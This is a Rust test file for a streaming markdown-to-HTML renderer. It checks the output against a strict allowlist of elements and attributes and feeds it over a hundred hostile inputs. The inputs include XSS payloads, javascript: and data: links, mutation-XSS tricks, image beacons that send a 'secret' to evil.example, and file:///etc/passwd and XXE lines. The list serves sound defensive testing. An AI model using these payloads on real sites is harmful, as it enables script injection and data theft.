//! Hostile text: nothing that loads and nothing that runs comes out, finished or growing. The judge
//! is a reader of HTML that knows only what may occur and refuses everything else.

use markdown::{Renderer, render, safe_link, to_html};

const ELEMENTS: &[&str] = &[
    "p",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "blockquote",
    "ul",
    "ol",
    "li",
    "div",
    "span",
    "pre",
    "code",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "em",
    "strong",
    "del",
    "a",
    "sup",
    "hr",
    "br",
    "input",
    "math",
    "mrow",
    "mi",
    "mo",
    "mn",
    "mtext",
    "mspace",
    "msup",
    "msub",
    "msubsup",
    "munder",
    "mover",
    "munderover",
    "mfrac",
    "msqrt",
    "mroot",
    "mtable",
    "mtr",
    "mtd",
];

const VOID: &[&str] = &["hr", "br", "input"];

/// The attributes that may occur on any element; all of them are inert. `data-href` and
/// `data-src` hold addresses and are checked as such.
const ATTRIBUTES: &[&str] = &[
    "class",
    "data-lang",
    "data-href",
    "data-src",
    "role",
    "tabindex",
    "type",
    "disabled",
    "checked",
    "start",
    "display",
    "displaystyle",
    "scriptlevel",
    "mathvariant",
    "stretchy",
    "symmetric",
    "largeop",
    "movablelimits",
    "maxsize",
    "width",
    "height",
    "depth",
    "linethickness",
];

/// Reads one block and fails at the first thing that may not be there.
fn judge(html: &str) -> Result<(), String> {
    let mut open: Vec<&str> = Vec::new();
    let mut rest = html;
    while let Some(at) = rest.find(['<', '>', '"', '\'', '\0']) {
        if !rest[at..].starts_with('<') {
            return Err(format!("bare {:?}", &rest[at..=at]));
        }
        rest = &rest[at + 1..];
        if let Some(after) = rest.strip_prefix('/') {
            let (name, after) = after.split_once('>').ok_or("an end tag without end")?;
            if open.pop() != Some(name) {
                return Err(format!("</{name}> closes nothing"));
            }
            rest = after;
            continue;
        }
        let length = rest.find(|c: char| !c.is_ascii_lowercase() && !c.is_ascii_digit());
        let (name, mut tag) = rest.split_at(length.ok_or("a tag without end")?);
        if !ELEMENTS.contains(&name) {
            return Err(format!("<{name}>"));
        }
        while let Some(attribute) = tag.strip_prefix(' ') {
            let length = attribute
                .find(|c: char| !c.is_ascii_lowercase() && c != '-')
                .ok_or("an attribute without end")?;
            let (key, after) = attribute.split_at(length);
            if !ATTRIBUTES.contains(&key) {
                return Err(format!("{key} on <{name}>"));
            }
            let Some(quoted) = after.strip_prefix("=\"") else {
                tag = after;
                continue;
            };
            let (value, after) = quoted.split_once('"').ok_or("an open quote")?;
            if value.contains(['<', '>', '\'']) {
                return Err(format!("{value:?} in {key}"));
            }
            if key.starts_with("data-") && key != "data-lang" {
                let address = value.replace("&#39;", "'").replace("&amp;", "&");
                safe_link(&address).ok_or_else(|| format!("{key} is {address:?}"))?;
            }
            if name == "input" && key == "type" && value != "checkbox" {
                return Err(format!("an input of type {value}"));
            }
            tag = after;
        }
        rest = tag
            .strip_prefix('>')
            .ok_or_else(|| format!("odd end of <{name}: {tag:.20}"))?;
        if !VOID.contains(&name) {
            open.push(name);
        }
    }
    if open.is_empty() {
        Ok(())
    } else {
        Err(format!("left open: {open:?}"))
    }
}

#[test]
fn the_judge_refuses_what_it_must() {
    for html in [
        "<script>x</script>",
        "<p onclick=\"x\">a</p>",
        "<p style=\"x\">a</p>",
        "<img src=\"x\">",
        "<a href=\"https://example.com\">a</a>",
        "<p>",
        "</p>",
        "<p>\"</p>",
        "<p a>x</p>",
        "a<b",
        "<a data-href=\"javascript:alert(1)\">x</a>",
        "<input type=\"image\">",
        "<p id=\"x\">a</p>",
        "<math><annotation-xml>x</annotation-xml></math>",
        "<svg></svg>",
        "<p class='x'>a</p>",
    ] {
        assert!(judge(html).is_err(), "{html}");
    }
}

/// Forms that have run or loaded something elsewhere.
const FORMS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)\n</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"https://evil.example/?q=secret\">",
    "<img srcset=\"https://evil.example/a 2x\">",
    "<picture><source srcset=https://evil.example/a></picture>",
    "<video poster=https://evil.example/p>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=https://evil.example/a autoplay>",
    "<link rel=stylesheet href=https://evil.example/c.css>",
    "<link rel=prefetch href=//evil.example>",
    "<style>@import url(https://evil.example/c.css);</style>",
    "<p style=\"background:url(https://evil.example)\">x</p>",
    "<svg onload=alert(1)>",
    "<svg><image href=https://evil.example/i /></svg>",
    "<svg><use href=\"data:image/svg+xml,x#a\"/></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe src=x></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=https://evil.example/x></object>",
    "<embed src=https://evil.example/x>",
    "<applet code=x>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<form action=https://evil.example><input name=q><button>go</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    "<table background=https://evil.example/b>",
    "<td background=javascript:alert(1)>",
    "<marquee onstart=alert(1)>",
    "<isindex action=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"https://evil.example\" ping=\"https://evil.example/p\">x</a>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">",
    "<title><a title=\"</title><img src=x onerror=alert(1)>\">",
    "<!--><script>alert(1)</script>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](java&#x73;cript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\u{1}script:alert(1)>)",
    "[x](\u{1}javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](< javascript:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](javascript:alert&lpar;1&rpar;)",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](tauri://localhost/)",
    "[x](ipc://localhost/)",
    "[x](asset://localhost/etc/passwd)",
    "[x](about:blank)",
    "[x](view-source:x)",
    "[x](feed:javascript:alert(1))",
    "[x](jar:https://evil.example!/x)",
    "[x](intent://x#Intent;end)",
    "[x](ms-msdt:/id)",
    "[x](smb://evil.example/s)",
    "[x](//evil.example/x)",
    "[x](/etc/passwd)",
    "[x](\\\\evil.example\\s)",
    "[x](https://user:pass@evil.example/)",
    "[x](https://bank.example@evil.example/)",
    "[x](https://@evil.example/)",
    "[x](https:/\\user@evil.example/)",
    "[x](https://ex\u{202e}ample.com)",
    "[x](https://ex\u{200b}ample.com)",
    "[x](https://example.com/\u{2028}a)",
    "[x](https://example.com/\u{feff})",
    "[x](<https://example.com/a b>)",
    "[x](https://example.com/\"onclick=\"alert(1))",
    "[x](https://example.com/'><script>alert(1)</script>)",
    "[x](<https://example.com/\"><img src=x onerror=alert(1)>>)",
    "[x](https://example.com \"t\\\" onmouseover=\\\"alert(1)\")",
    "[x](mailto:a@b.example?attach=/etc/passwd)",
    "[x](mailto:)",
    "[x](mailto:/etc/passwd)",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<data:text/html,x>",
    "<file:///etc/passwd>",
    "<https://u:p@evil.example>",
    "<a@b.example>",
    "<https://example.com/?\"onload=alert(1)>",
    "<x:y>",
    "<mailto:a@b.example\"onclick=alert(1)>",
    "![x](https://evil.example/?q=secret)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x\"onerror=\"alert(1)](https://evil.example/)",
    "![<img src=x onerror=alert(1)>](https://evil.example/)",
    "![![x](https://evil.example/a)](https://evil.example/b)",
    "[![x](https://evil.example/a)](javascript:alert(1))",
    "![x][r]\n\n[r]: https://evil.example/?secret",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[r]\n\n[r]: <javascript:alert(1)> \"t\"",
    "[r]: data:text/html,x\n\n[r]",
    "[a]: javascript:alert(1)\n[a]",
    "[x][ſ]\n\n[s]: javascript:alert(1)",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "[^\"><script>]\n\n[^\"><script>]: x",
    "[^'onclick='x]: y",
    "```\"><script>alert(1)</script>\nx\n```",
    "```html\n<script>alert(1)</script>\n```",
    "~~~' onclick='alert(1)\nx\n~~~",
    "```\u{202e}js\nx\n```",
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "``\"><img src=x onerror=alert(1)>``",
    "- <img src=x onerror=alert(1)>\n- ```html\n  </code></pre><script>alert(1)</script>\n  ```",
    "> <iframe src=x>",
    "| <script> | \"onclick= |\n|---|---|\n| <img src=x> | `|<b>` |",
    "# <svg/onload=alert(1)>",
    "# x {#id onclick=alert(1) .class}",
    "<script>\nx\n===\n",
    "**<b onclick=alert(1)>**",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\url{javascript:alert(1)}$",
    "$\\text{<script>alert(1)</script>}$",
    "$\\text{</math><img src=x onerror=alert(1)>}$",
    "$\\includegraphics{https://evil.example/x.png}$",
    "$\\class{x\" onclick=\"alert(1)}{y}$",
    "$\\style{background:url(https://evil.example)}{x}$",
    "$\\htmlData{a=b}{x}$",
    "$\\htmlId{a}{x}$",
    "$\\color{red\"onclick=\"x}{y}$",
    "$\\textcolor{red}{x}$",
    "$\\colorbox{url(x)}{y}$",
    "$\\unicode{x3c}script$",
    "$<script>alert(1)</script>$",
    "$a<b>c$",
    "$$\\begin{matrix}<img src=x onerror=alert(1)>&\\\\</math>\\end{matrix}$$",
    "$\\def\\x{\\x\\x}\\x$",
    "$\\newcommand{\\a}{<b>}\\a$",
    "$\\operatorname{<img>}$",
    "$\\mathrm{\"'&<>}$",
    "$\\begin{</math><script>}x\\end{</math><script>}$",
    "$\\char`<$",
    "$\\undefined{<b>}$",
    "$\\not<$",
    "$x\\tag{<b>}$",
    "$\\fcolorbox{red}{blue}{x}$",
    "$\\displaystyle\\color{blue}{\\frac{<}{>}}$",
    "$\\kern-1em x$",
    "$\\hspace{-3em}<$",
    "$\\rule{1em}{1em}$",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "<\u{2028}script>alert(1)</script>",
    "\u{ff1c}script\u{ff1e}",
    "<\0script>alert(1)</script>",
    "\0<img/src=x/onerror=alert(1)>",
    "<img/src=\"x\"/onerror=alert(1)//",
    "<<script>alert(1)//<</script>",
    "- [x] <input type=image src=x>",
    "- [ ](javascript:alert(1))",
    "> [!NOTE\"onclick=x]\n> x",
    "> [!NOTE]\n> <script>alert(1)</script>",
];

fn assert_safe(html: &str, source: &str) {
    let verdict = judge(html);
    assert!(
        verdict.is_ok(),
        "{verdict:?}\n  in   {html}\n  from {source:?}"
    );
}

/// Judges the text whole and after each of its characters.
fn judge_text(text: &str) {
    for block in render(text) {
        assert_safe(&block.html, text);
    }
    let mut renderer = Renderer::new();
    for c in text.chars() {
        let patch = renderer.push(c.encode_utf8(&mut [0; 4]));
        for block in patch.append.iter().chain(&patch.tail) {
            assert_safe(&block.html, text);
        }
    }
    for block in renderer.finish().append {
        assert_safe(&block.html, text);
    }
}

#[test]
fn hostile_forms_are_inert_in_every_place() {
    assert!(FORMS.len() >= 100, "{}", FORMS.len());
    for form in FORMS {
        for wrapped in [
            (*form).to_owned(),
            format!("Some text {form} goes on *here*.\n\nAnd `more`."),
            format!("- item\n\n  {}\n- next {form}", form.replace('\n', "\n  ")),
            format!(
                "> {}\n\n| a | b |\n|---|---|\n| {form} | x |\n",
                form.replace('\n', "\n> ")
            ),
            format!("**{form}** [{form}](https://example.com/) ![{form}](https://example.com/)"),
            format!("```rust\n{form}\n```\n\n```nonesuch\n{form}"),
        ] {
            judge_text(&wrapped);
        }
    }
}

#[test]
fn only_three_schemes_become_links() {
    for text in [
        "[x](https://example.com/a?b=c&d)",
        "<http://example.com>",
        "<a@b.example>",
        "[x](mailto:a@b.example)",
    ] {
        assert_eq!(to_html(text).matches("data-href=").count(), 1, "{text}");
    }
    for text in FORMS
        .iter()
        .filter(|form| form.contains("script:") || form.contains("data:"))
    {
        assert!(!to_html(text).contains("data-href="), "{text}");
    }
}

#[test]
fn addresses_are_checked() {
    let good = [
        "https://example.com/",
        "http://127.0.0.1:8080/x?y#z",
        "mailto:a@b.example",
        "https://müller.example/ü",
    ];
    for url in good {
        assert!(safe_link(url).is_some(), "{url}");
    }
    let long = format!("https://example.com/{}", "a".repeat(2_048));
    let bad = [
        "",
        "example.com",
        "/x",
        "#x",
        "//example.com",
        "javascript:alert(1)",
        " https://example.com",
        "https://example.com ",
        "https://example.com\n",
        "\u{a0}https://example.com",
        "https://\u{202e}moc.example",
        "https://a\u{200d}b.example",
        "https://a@example.com",
        "https://:@example.com",
        "https://@example.com",
        "https:\\\\a@example.com",
        "https://",
        "http:",
        "ftp://example.com",
        "mailto:",
        "mailto:a",
        "https://example.com/\u{2028}",
        "https://example.com/\u{7f}",
        "https://exa mple.com",
        "file:///x",
        "data:,x",
        "https://example.com/\u{e0041}",
        &long,
    ];
    for url in bad {
        assert!(safe_link(url).is_none(), "{url:?}");
    }
}

#[test]
fn images_are_chips() {
    assert_eq!(
        to_html("![a \"cat\"](https://img.example/c.png?x=1&y=2)"),
        "<p><span class=\"image-chip\" data-src=\"https://img.example/c.png?x=1&amp;y=2\" \
         role=\"button\" tabindex=\"0\">image: img.example · a &quot;cat&quot;</span></p>\n"
    );
    assert_eq!(to_html("![cat](cat.png)"), "<p>cat</p>\n");
}
